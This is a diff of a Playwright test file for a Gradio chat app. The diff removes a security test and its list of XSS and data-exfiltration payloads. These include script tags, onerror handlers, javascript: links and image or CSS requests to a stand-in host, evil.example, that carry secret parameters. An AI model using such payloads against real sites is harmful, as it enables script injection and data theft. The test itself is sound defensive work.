@@ -10,52 +10,13 @@ import uvicorn
 from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from gradio_app.aws import Clients
-from gradio_app.chat.conversation import Answer, Conversation, new_id
-from gradio_app.identity import LOCAL_USER
-from gradio_app.page.address import address_of
 from gradio_app.server import create_app
 from gradio_app.settings import Settings
-from gradio_app.store.conversations import Conversations
 from tests.gradio_app.chatting import DEADLINE, MODEL_ID, bedrock_client
 from tests.gradio_app.fake_bedrock import FakeBedrock
 
 pytestmark = pytest.mark.slow
 OTHER_MODEL = "us.amazon.nova-lite-v1:0"
-
-ATTACKS = [
-    "<script>document.title = 'pwned'</script>",
-    "<img src=x onerror=\"document.title = 'pwned'\">",
-    "<img src=x onerror=document.title='pwned'//",
-    "<svg onload=\"document.title = 'pwned'\"></svg>",
-    "<svg><script>document.title = 'pwned'</script></svg>",
-    "<svg><animate onbegin=\"document.title = 'pwned'\" attributeName=x dur=1s></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='pwned'\">",
-    "<iframe srcdoc=\"<script>parent.document.title = 'pwned'</script>\"></iframe>",
-    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
-    "<object data=\"javascript:document.title='pwned'\"></object>",
-    "<embed src=\"data:text/html,<script>parent.document.title='pwned'</script>\">",
-    "<details open ontoggle=\"document.title = 'pwned'\">x</details>",
-    "<body onload=\"document.title = 'pwned'\">",
-    "<input autofocus onfocus=\"document.title = 'pwned'\">",
-    '<form action="http://evil.example/"><button id=bait>bait</button></form>',
-    "<a href=\"javascript:document.title='pwned'\">bait</a>",
-    "[bait](javascript:document.title='pwned')",
-    "[bait](JaVaScRiPt&#58;document.title='pwned')",
-    "[bait](data:text/html,<script>opener.document.title='pwned'</script>)",
-    "![leak](http://evil.example/?secret=1)",
-    '<img src="http://evil.example/?secret=2">',
-    '<img srcset="http://evil.example/?secret=3 2x" src=x>',
-    '<video src="http://evil.example/4" poster="http://evil.example/5" autoplay></video>',
-    '<link rel=stylesheet href="http://evil.example/6">',
-    "<style>@import url(http://evil.example/7); body { background: url(http://evil.example/8) }</style>",
-    '<div style="background: url(http://evil.example/9)">x</div>',
-    '<meta http-equiv=refresh content="0;url=http://evil.example/10">',
-    '<base href="http://evil.example/">',
-    "$$\\href{javascript:document.title='pwned'}{bait}$$",
-    "$$\\includegraphics{http://evil.example/11}$$",
-    "```mermaid\ngraph TD\nA[\"<img src=x onerror=document.title='pwned'>\"]\n```",
-    "```html\n<img src=x onerror=document.title='pwned'>\n```",
-]
 
 
 @pytest.fixture
@@ -338,49 +299,6 @@ def test_on_a_phone_the_sidebar_starts_closed_and_opens(browser: Browser, site: 
     page.get_by_label("Toggle Sidebar").click()
     expect(page.locator("#box textarea")).to_be_in_viewport()
     context.close()
-
-
-@pytest.mark.asvs("1.3.5", "3.2.2")
-def test_nothing_that_the_model_writes_runs_or_calls_out(
-    context: BrowserContext, site: str, store: Conversations, fake: FakeBedrock
-) -> None:
-    outside: list[str] = []
-
-    def stay(route: Any) -> None:
-        outside.append(route.request.url)
-        route.abort()
-
-    context.route(lambda url: not url.startswith((site, "data:", "blob:")), stay)
-    conversation_id = new_id()
-    for attack in ATTACKS:
-        seen = store.read(LOCAL_USER.user_id, conversation_id) or Conversation(conversation_id)
-        number = store.ask(LOCAL_USER.user_id, seen, attack)
-        store.answer(LOCAL_USER.user_id, conversation_id, number, Answer(f"{attack} end"))
-    page = opened(context, address_of(conversation_id))
-    expect(answers(page)).to_have_count(len(ATTACKS))
-    # Once more as it comes in pieces, each of them rendered by itself.
-    fake.word_seconds = 0.02
-    ask(page, "answer: " + "\n\n".join(ATTACKS[3:6]) + "\n\nthe end", "the end")
-    baits = page.locator("#chat a:visible", has_text="bait")
-    for number in range(baits.count()):
-        baits.nth(number).evaluate("bait => bait.click()")
-
-    for tab in context.pages:
-        assert "pwned" not in tab.title()
-    assert page.title() == "Asistente"
-    assert outside == []
-    chat = page.locator("#chat")
-    # Gradio's icons and Mermaid's drawings bring a style for themselves.
-    tags = "script, iframe, object, embed, base, meta, link, form, video, style:not(svg style)"
-    assert chat.locator(tags).count() == 0
-    expect(answers(page).first).to_contain_text("document.title = 'pwned'")
-    assert (
-        page.evaluate(
-            """[...document.querySelectorAll("#chat *")].flatMap(element => [...element.attributes])
-           .filter(({name, value}) => name.startsWith("on") || /^\\s*javascript:/i.test(value)).length"""
-        )
-        == 0
-    )
 
 
 @pytest.mark.asvs("3.4.3")
